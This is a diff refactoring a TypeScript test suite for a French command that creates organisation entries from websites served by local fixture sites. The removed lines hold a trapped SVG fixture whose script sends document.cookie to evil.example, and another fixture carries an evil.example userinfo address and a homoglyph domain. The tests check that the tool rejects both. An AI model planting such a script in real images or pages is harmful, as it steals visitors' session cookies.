@@ -1,10 +1,10 @@
-import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { readdir, readFile } from 'node:fs/promises';
+import type { RequestListener } from 'node:http';
 import { join } from 'node:path';
-import sharp from 'sharp';
+import { lookup } from 'mrmime';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTempProject, run, type CommandResult, type TempProject } from '../support/temp-project';
+import { serve } from '../support/servers';
+import { createTempProject, PROJECT_ROOT, proxyEnv, run, type CommandResult, type TempProject } from '../support/temp-project';
 
 /**
  * `npm run new -- https://…` against fixture sites, with no network: a loopback server plays the web, reached
@@ -16,250 +16,121 @@ const SLOW = 180_000;
 /** Short, so that the site that never answers costs little. */
 const TIMEOUT_MS = 1500;
 
-type Handler = (request: IncomingMessage, response: ServerResponse) => void;
+const SITES = join(PROJECT_ROOT, 'tests/fixtures/sites');
 
-const png = (width: number, height: number, background = '#2a6f4e') =>
-  sharp({ create: { width, height, channels: 3, background } })
-    .png()
-    .toBuffer();
-const SVG_LOGO =
-  '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200" viewBox="0 0 600 200"><rect width="600" height="200" fill="#1b4f72"/><circle cx="100" cy="100" r="60" fill="#f4d03f"/></svg>';
-
-const page = (head: string, body = '<h1>Accueil</h1>') =>
-  `<!doctype html><html lang="fr"><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
-
-function send(type: string, body: string | Buffer): Handler {
-  return (_, response) => {
+const send =
+  (type: string, body: string | Buffer): RequestListener =>
+  (_, response) => {
     response.writeHead(200, { 'content-type': type, 'content-length': Buffer.byteLength(body) });
     response.end(body);
   };
-}
 
 const redirect =
-  (location: string, status = 301): Handler =>
+  (location: string, status = 301): RequestListener =>
   (_, response) => {
-    response.writeHead(status, { location });
-    response.end();
+    response.writeHead(status, { location }).end();
   };
 
-/** The fixture sites, by host and path; filled in `beforeAll` (images are drawn there). */
-const SITES = new Map<string, Map<string, Handler>>();
-const site = (host: string, routes: Record<string, Handler>) => SITES.set(host, new Map(Object.entries(routes)));
+/**
+ * The answers that are not a file of tests/fixtures/sites/<host>/ (a folder's index.html, typed by its extension). Each
+ * site's logo there has its own colours: a logo of the same bytes as another site's would be published once, under one name.
+ */
+const ROUTES: Record<string, RequestListener> = {
+  'www.og-image.test/favicon.ico': send('image/x-icon', Buffer.from('pas une image')),
+  'www.redirige.test/': redirect('/etape-1'),
+  'www.redirige.test/etape-1': redirect('http://www.redirige.test/arrivee/', 302),
+  'www.lent.test/': () => {},
+  'www.pdf.test/': send('application/pdf', Buffer.from('%PDF-1.4 une plaquette')),
+  // 20 MB announced and sent, far beyond the limit: the download stops early.
+  'www.gros-logo.test/enorme.png': send('image/png', Buffer.alloc(20_000_000)),
+  // Older French sites: ISO-8859-1 declared by the server, windows-1252 declared only in the page.
+  'www.latin1.test/': send(
+    'text/html; charset=ISO-8859-1',
+    Buffer.from(
+      '<html><head><meta property="og:site_name" content="Médecins du Monde"><meta name="description" content="Soigner les populations les plus vulnérables, ici et là-bas."></head></html>',
+      'latin1',
+    ),
+  ),
+  'www.cp1252.test/': send(
+    'text/html',
+    Buffer.from(
+      '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"><title>L\x92\x8cuvre des Écoles</title></head></html>',
+      'latin1',
+    ),
+  ),
+};
 
-let server: Server;
-let proxy = '';
+/** The commands, by the name the tests give them: the owner's arguments to `npm run new --`. */
+const COMMANDS = {
+  svg: ['http://www.svg-asso.test/'],
+  manifest: ['http://www.manifeste.test/', '--category', 'libertes-numeriques'],
+  favicon: ['http://www.favicon.test/'],
+  ogImage: ['http://www.og-image.test/'],
+  redirect: ['http://www.redirige.test/'],
+  notFound: ['http://www.introuvable.test/'],
+  timeout: ['http://www.lent.test/'],
+  notHtml: ['http://www.pdf.test/'],
+  hugeLogo: ['http://www.gros-logo.test/'],
+  trappedSvg: ['http://www.svg-piege.test/'],
+  ownName: ['Mon Nom à Moi', 'http://www.manifeste.test/autre-page'],
+  latin1: ['http://www.latin1.test/'],
+  cp1252: ['http://www.cp1252.test/'],
+  hostileDescription: ['http://www.diese.test/'],
+  tildes: ['http://www.tildes.test/'],
+  emoji: ['http://www.emoji.test/'],
+  separators: ['http://www.separateurs.test/'],
+};
+
+let close = () => {};
 let project: TempProject;
 const results = new Map<string, CommandResult & { ms: number }>();
 
-/** `npm run new` as the owner types it, behind the fixture « proxy ». */
-async function newEntry(...args: string[]): Promise<CommandResult & { ms: number }> {
-  const started = performance.now();
-  const result = await run('npm', ['run', '--silent', 'new', '--', ...args], project.dir, {
-    HTTP_PROXY: proxy,
-    HTTPS_PROXY: proxy,
-    http_proxy: proxy,
-    https_proxy: proxy,
-    NO_PROXY: '',
-    no_proxy: '',
-    ORGANISATIONS_DIR: '',
-    NEW_FETCH_TIMEOUT_MS: String(TIMEOUT_MS),
+beforeAll(async () => {
+  // As a proxy, the server receives absolute addresses (`GET http://www.svg-asso.test/ HTTP/1.1`).
+  const server = await serve(async (request, response) => {
+    const { host, pathname } = new URL(request.url ?? '/', `http://${request.headers.host}`);
+    const file = join(SITES, host, pathname.endsWith('/') ? `${pathname}index.html` : pathname);
+    const body = await readFile(file).catch(() => undefined);
+    const handler = ROUTES[host + pathname] ?? (body && send(lookup(file) ?? 'application/octet-stream', body));
+    if (handler) return handler(request, response);
+    response.writeHead(404, { 'content-type': 'text/html' }).end('<h1>Introuvable</h1>');
   });
-  return { ...result, ms: performance.now() - started };
+  close = server.close;
+
+  project = await createTempProject({ also: ['scripts'] });
+  for (const [key, args] of Object.entries(COMMANDS)) {
+    const started = performance.now();
+    const env = { ...proxyEnv(server.origin), ORGANISATIONS_DIR: '', NEW_FETCH_TIMEOUT_MS: String(TIMEOUT_MS) };
+    const result = await run('npm', ['run', '--silent', 'new', '--', ...args], project.dir, env);
+    results.set(key, { ...result, ms: performance.now() - started });
+  }
+}, SLOW);
+
+afterAll(async () => {
+  close();
+  await project?.remove();
+});
+
+/** What a command printed, once it is known to have succeeded. */
+function succeeded(key: keyof typeof COMMANDS): string {
+  const { code, output } = results.get(key) ?? { code: null, output: 'not run' };
+  expect(code, output).toBe(0);
+  return output;
 }
 
 const entryOf = (slug: string) => readFile(join(project.organisations, `${slug}.md`), 'utf8');
 const filesOf = async (slug: string) => (await readdir(project.organisations)).filter((name) => name.startsWith(`${slug}.`)).sort();
 
-beforeAll(async () => {
-  const pngIcon512 = await png(512, 512);
-  site('www.svg-asso.test', {
-    '/': send(
-      'text/html; charset=utf-8',
-      page(
-        '<title>Accueil - Association SVG</title><meta property="og:site_name" content="Association SVG"><meta property="og:description" content="Une association qui dessine en vecteurs : *net* à toutes les tailles, <vraiment>."><link rel="icon" type="image/svg+xml" href="/logo.svg"><link rel="apple-touch-icon" href="/apple.png">',
-      ),
-    ),
-    '/logo.svg': send('image/svg+xml', SVG_LOGO),
-    '/apple.png': send('image/png', await png(180, 180)),
-  });
-  site('www.manifeste.test', {
-    '/': send(
-      'text/html',
-      page(
-        '<title>Le Manifeste | Accueil</title><link rel="manifest" href="/site.webmanifest"><meta name="description" content="Un collectif qui publie son manifeste.">',
-      ),
-    ),
-    '/site.webmanifest': send(
-      'application/manifest+json',
-      JSON.stringify({
-        name: 'Le Manifeste',
-        icons: [
-          { src: '/icone-192.png', sizes: '192x192', type: 'image/png' },
-          { src: '/icone-512.png', sizes: '512x512', type: 'image/png' },
-        ],
-      }),
-    ),
-    '/icone-192.png': send('image/png', await png(192, 192)),
-    '/icone-512.png': send('image/png', pngIcon512),
-  });
-  site('www.favicon.test', {
-    '/': send('text/html', page('<title>Petite Icône</title><link rel="icon" href="/favicon-32.png" sizes="32x32">')),
-    '/favicon-32.png': send('image/png', await png(32, 32)),
-  });
-  site('www.og-image.test', {
-    '/': send(
-      'text/html',
-      page(
-        '<meta property="og:site_name" content="Image de Partage"><meta property="og:image" content="/partage.jpg"><link rel="icon" href="/favicon.ico">',
-      ),
-    ),
-    '/partage.jpg': send(
-      'image/jpeg',
-      await sharp({ create: { width: 1200, height: 630, channels: 3, background: '#7d3c98' } })
-        .jpeg()
-        .toBuffer(),
-    ),
-    '/favicon.ico': send('image/x-icon', Buffer.from('pas une image')),
-  });
-  site('www.redirige.test', {
-    '/': redirect('/etape-1'),
-    '/etape-1': redirect('http://www.redirige.test/arrivee/', 302),
-    '/arrivee/': send(
-      'text/html',
-      page('<meta property="og:site_name" content="Au Bout des Redirections"><link rel="icon" type="image/svg+xml" href="logo.svg">'),
-    ),
-    // Its own drawing: a logo of the same bytes as another site's would be published once, under either name.
-    '/arrivee/logo.svg': send('image/svg+xml', SVG_LOGO.replace('#1b4f72', '#6c3483')),
-  });
-  site('www.introuvable.test', {});
-  site('www.lent.test', { '/': () => {} });
-  site('www.pdf.test', { '/': send('application/pdf', Buffer.from('%PDF-1.4 une plaquette')) });
-  site('www.gros-logo.test', {
-    '/': send(
-      'text/html',
-      page('<meta property="og:site_name" content="Gros Logo"><link rel="icon" href="/enorme.png" sizes="4096x4096">'),
-    ),
-    // 20 MB announced and sent, far beyond the limit: the download stops early.
-    '/enorme.png': (_, response) => {
-      response.writeHead(200, { 'content-type': 'image/png', 'content-length': 20_000_000 });
-      const chunk = Buffer.alloc(1_000_000);
-      let sent = 0;
-      const more = () => {
-        while (sent < 20 && response.write(chunk)) sent += 1;
-        if (sent >= 20) response.end();
-        else response.once('drain', more);
-      };
-      response.on('error', () => {});
-      more();
-    },
-  });
-  site('www.svg-piege.test', {
-    '/': send(
-      'text/html',
-      page(
-        '<meta property="og:site_name" content="SVG Piégé"><link rel="icon" type="image/svg+xml" href="/logo.svg"><link rel="apple-touch-icon" sizes="512x512" href="/apple-512.png">',
-      ),
-    ),
-    '/logo.svg': send(
-      'image/svg+xml',
-      SVG_LOGO.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'),
-    ),
-    // Another colour: the same bytes as another site's logo would be published once, under that site's name.
-    '/apple-512.png': send('image/png', await png(512, 512, '#884422')),
-  });
-  // Older French sites: ISO-8859-1 declared by the server, windows-1252 declared only in the page.
-  site('www.latin1.test', {
-    '/': send(
-      'text/html; charset=ISO-8859-1',
-      Buffer.from(
-        '<html><head><meta property="og:site_name" content="Médecins du Monde"><meta name="description" content="Soigner les populations les plus vulnérables, ici et là-bas."></head></html>',
-        'latin1',
-      ),
-    ),
-  });
-  site('www.cp1252.test', {
-    '/': send(
-      'text/html',
-      Buffer.from(
-        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"><title>L\x92\x8cuvre des Écoles</title></head></html>',
-        'latin1',
-      ),
-    ),
-  });
-  // A description the build would refuse as written: a heading, an address with user info, a host mixing alphabets.
-  site('www.diese.test', {
-    '/': send(
-      'text/html',
-      page(
-        '<meta property="og:site_name" content="Dièse"><meta property="og:description" content="# Rejoignez-nous ! Écrivez à https://www.diese.test@evil.example/ ou lisez www.lеmediatv.fr, et https://www.diese.test/agir.">',
-      ),
-    ),
-  });
-  // A code fence that the build refuses (its « language » is not a word), and a character reference written as text.
-  site('www.tildes.test', {
-    '/': send(
-      'text/html',
-      page(
-        '<meta property="og:site_name" content="Les Tildes"><meta property="og:description" content="~~~ Éducation populaire &amp;copy; pour toutes et tous">',
-      ),
-    ),
-  });
-  // Names with nothing to make a file name of.
-  site('www.emoji.test', { '/': send('text/html', page('<meta property="og:site_name" content="🌍🌱">')) });
-  site('www.separateurs.test', { '/': send('text/html', page('<title>— | —</title>')) });
-
-  server = createServer((request, response) => {
-    // As a proxy, the server receives absolute addresses (`GET http://www.svg-asso.test/ HTTP/1.1`).
-    const url = new URL(request.url ?? '/', `http://${request.headers.host}`);
-    const handler = SITES.get(url.host)?.get(url.pathname);
-    if (handler) return handler(request, response);
-    response.writeHead(404, { 'content-type': 'text/html' });
-    response.end('<h1>Introuvable</h1>');
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  proxy = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-
-  project = await createTempProject({ also: ['scripts'] });
-  for (const [key, args] of Object.entries({
-    svg: ['http://www.svg-asso.test/'],
-    manifest: ['http://www.manifeste.test/', '--category', 'libertes-numeriques'],
-    favicon: ['http://www.favicon.test/'],
-    ogImage: ['http://www.og-image.test/'],
-    redirect: ['http://www.redirige.test/'],
-    notFound: ['http://www.introuvable.test/'],
-    timeout: ['http://www.lent.test/'],
-    notHtml: ['http://www.pdf.test/'],
-    hugeLogo: ['http://www.gros-logo.test/'],
-    trappedSvg: ['http://www.svg-piege.test/'],
-    ownName: ['Mon Nom à Moi', 'http://www.manifeste.test/autre-page'],
-    latin1: ['http://www.latin1.test/'],
-    cp1252: ['http://www.cp1252.test/'],
-    hostileDescription: ['http://www.diese.test/'],
-    tildes: ['http://www.tildes.test/'],
-    emoji: ['http://www.emoji.test/'],
-    separators: ['http://www.separateurs.test/'],
-  })) {
-    results.set(key, await newEntry(...args));
-  }
-}, SLOW);
-
-afterAll(async () => {
-  server?.close();
-  server?.closeAllConnections();
-  await project?.remove();
-});
-
-const result = (key: string) => results.get(key) ?? { code: null, output: '', ms: 0 };
-
 describe('npm run new -- <address>: what it takes from the page', () => {
   it('a site with an SVG logo: its name, a description to rewrite, the SVG itself, in under 10 s', async () => {
-    const { code, output, ms } = result('svg');
-    expect(code, output).toBe(0);
-    expect(ms).toBeLessThan(10_000);
+    const output = succeeded('svg');
+    expect(results.get('svg')?.ms).toBeLessThan(10_000);
     expect(output).toContain('Nom : Association SVG (og:site_name)');
     expect(output).toContain('Logo choisi : http://www.svg-asso.test/logo.svg (icône SVG)');
     expect(await filesOf('association-svg')).toEqual(['association-svg.md', 'association-svg.svg']);
-    expect(await readFile(join(project.organisations, 'association-svg.svg'), 'utf8')).toBe(SVG_LOGO);
+    expect(await readFile(join(project.organisations, 'association-svg.svg'))).toEqual(
+      await readFile(join(SITES, 'www.svg-asso.test/logo.svg')),
+    );
     const entry = await entryOf('association-svg');
     expect(entry).toContain('name: Association SVG');
     expect(entry).toContain('# La description sous l’en-tête vient du site de l’organisation (og:description) :');
@@ -268,16 +139,14 @@ describe('npm run new -- <address>: what it takes from the page', () => {
   });
 
   it('a site with only a manifest: its 512 px icon', async () => {
-    const { code, output } = result('manifest');
-    expect(code, output).toBe(0);
+    const output = succeeded('manifest');
     expect(output).toContain('Nom : Le Manifeste (<title>)');
     expect(output).toMatch(/Logo choisi : http:\/\/www\.manifeste\.test\/icone-512\.png \(icône du manifeste \(512 px\)\) : 512×512 px/);
     expect(await filesOf('le-manifeste')).toEqual(['le-manifeste.md', 'le-manifeste.png']);
   });
 
   it('a site with only a 32 px favicon: the placeholder is kept, and the reason printed', async () => {
-    const { code, output } = result('favicon');
-    expect(code, output).toBe(0);
+    const output = succeeded('favicon');
     expect(output).toMatch(/écarté : http:\/\/www\.favicon\.test\/favicon-32\.png \(icône \(32 px\)\) : .*fait 32×32 px : trop petit/);
     expect(output).toContain('À faire à la main : aucun logo du site ne convient');
     expect(output).toContain('Logo provisoire : ');
@@ -285,17 +154,14 @@ describe('npm run new -- <address>: what it takes from the page', () => {
   });
 
   it('a site whose social image is the only large image: that image, as a last resort', async () => {
-    const { code, output } = result('ogImage');
-    expect(code, output).toBe(0);
+    const output = succeeded('ogImage');
     expect(output).toMatch(/écarté : http:\/\/www\.og-image\.test\/favicon\.ico \(icône\) : ce n’est pas une image lisible/);
     expect(output).toContain('Logo choisi : http://www.og-image.test/partage.jpg (image de partage (og:image)) : 1200×630 px');
     expect(await filesOf('image-de-partage')).toEqual(['image-de-partage.jpg', 'image-de-partage.md']);
   });
 
   it('a chain of redirects is followed, and addresses read from where it ends', async () => {
-    const { code, output } = result('redirect');
-    expect(code, output).toBe(0);
-    expect(output).toContain('Logo choisi : http://www.redirige.test/arrivee/logo.svg');
+    expect(succeeded('redirect')).toContain('Logo choisi : http://www.redirige.test/arrivee/logo.svg');
     expect(await entryOf('au-bout-des-redirections')).toContain('url: http://www.redirige.test/');
   });
 
@@ -303,9 +169,8 @@ describe('npm run new -- <address>: what it takes from the page', () => {
     ['notFound', 'Introuvable', 'http://www.introuvable.test/ répond 404 (page introuvable)'],
     ['timeout', 'Lent', `http://www.lent.test/ n’a pas répondu en ${TIMEOUT_MS / 1000} s`],
     ['notHtml', 'Pdf', 'http://www.pdf.test/ n’est pas une page web (application/pdf)'],
-  ])('%s: a working entry with the placeholder logo, and one sentence saying what to do', async (key, name, why) => {
-    const { code, output } = result(key);
-    expect(code, output).toBe(0);
+  ] as const)('%s: a working entry with the placeholder logo, and one sentence saying what to do', async (key, name, why) => {
+    const output = succeeded(key);
     expect(output).toContain(`À faire à la main : la page n’a pas pu être lue (${why}) : la fiche est créée avec un logo provisoire.`);
     expect(output).toContain(`Nom : ${name} (tiré de l’adresse`);
     const slug = name.toLowerCase();
@@ -313,60 +178,51 @@ describe('npm run new -- <address>: what it takes from the page', () => {
   });
 
   it('a 20 MB « logo » is refused by the size limit, not downloaded whole', async () => {
-    const { code, output } = result('hugeLogo');
-    expect(code, output).toBe(0);
-    expect(output).toMatch(/écarté : http:\/\/www\.gros-logo\.test\/enorme\.png .* dépasse 5 Mo/);
+    expect(succeeded('hugeLogo')).toMatch(/écarté : http:\/\/www\.gros-logo\.test\/enorme\.png .* dépasse 5 Mo/);
     expect(await filesOf('gros-logo')).toEqual(['gros-logo.md', 'gros-logo.svg']);
   });
 
   it('an SVG with a script is refused by the project’s SVG rules; the next candidate is taken', async () => {
-    const { code, output } = result('trappedSvg');
-    expect(code, output).toBe(0);
+    const output = succeeded('trappedSvg');
     expect(output).toMatch(/écarté : http:\/\/www\.svg-piege\.test\/logo\.svg \(icône SVG\) : .*il contient un script/);
     expect(output).toContain('Logo choisi : http://www.svg-piege.test/apple-512.png');
     expect(await filesOf('svg-piege')).toEqual(['svg-piege.md', 'svg-piege.png']);
   });
 
   it('the owner’s name wins over the page’s', async () => {
-    const { code, output } = result('ownName');
-    expect(code, output).toBe(0);
+    succeeded('ownName');
     expect(await entryOf('mon-nom-a-moi')).toContain('name: Mon Nom à Moi');
   });
 });
 
 describe('npm run new -- <address>: odd pages give entries the build accepts', () => {
   it.each([
-    ['latin1', 'medecins-du-monde', 'name: Médecins du Monde', 'Soigner les populations les plus vulnérables, ici et là-bas.'],
-    ['cp1252', 'l-oeuvre-des-ecoles', 'name: L’Œuvre des Écoles', undefined],
-  ])('%s: the page is read in the encoding it declares', async (key, slug, name, description) => {
-    const { code, output } = result(key);
-    expect(code, output).toBe(0);
+    ['latin1', 'medecins-du-monde', ['name: Médecins du Monde', 'Soigner les populations les plus vulnérables, ici et là-bas.']],
+    ['cp1252', 'l-oeuvre-des-ecoles', ['name: L’Œuvre des Écoles']],
+  ] as const)('%s: the page is read in the encoding it declares', async (key, slug, words) => {
+    succeeded(key);
     const entry = await entryOf(slug);
-    expect(entry).toContain(name);
-    if (description) expect(entry).toContain(description);
+    for (const text of words) expect(entry).toContain(text);
     expect(entry).not.toContain('\ufffd');
   });
 
   it('a description that starts with # or holds addresses the build refuses: escaped, those addresses left out, and said', async () => {
-    const { code, output } = result('hostileDescription');
-    expect(code, output).toBe(0);
+    const output = succeeded('hostileDescription');
     expect(output).toContain('retiré de la description : « https://www.diese.test@evil.example/ »');
     expect(output).toContain('retiré de la description : « www.lеmediatv.fr »');
     expect(await entryOf('diese')).toContain('\\# Rejoignez-nous ! Écrivez à … ou lisez …, et https://www.diese.test/agir.');
   });
 
   it('a description that would open a code fence, or write a character reference: escaped, shown as text', async () => {
-    expect(result('tildes').code, result('tildes').output).toBe(0);
+    succeeded('tildes');
     expect(await entryOf('les-tildes')).toContain('\\~~~ Éducation populaire \\&copy; pour toutes et tous');
   });
 
   it.each([
     ['emoji', '🌍🌱', 'Emoji'],
     ['separators', '— | —', 'Separateurs'],
-  ])('%s: a page name with no letter gives way to the host’s, and says so', async (key, pageName, name) => {
-    const { code, output } = result(key);
-    expect(code, output).toBe(0);
-    expect(output).toContain(`Nom : ${name} (tiré de l’adresse : celui de la page, « ${pageName} »`);
+  ] as const)('%s: a page name with no letter gives way to the host’s, and says so', async (key, pageName, name) => {
+    expect(succeeded(key)).toContain(`Nom : ${name} (tiré de l’adresse : celui de la page, « ${pageName} »`);
     expect(await entryOf(name.toLowerCase())).toContain(`name: ${name}`);
   });
 });
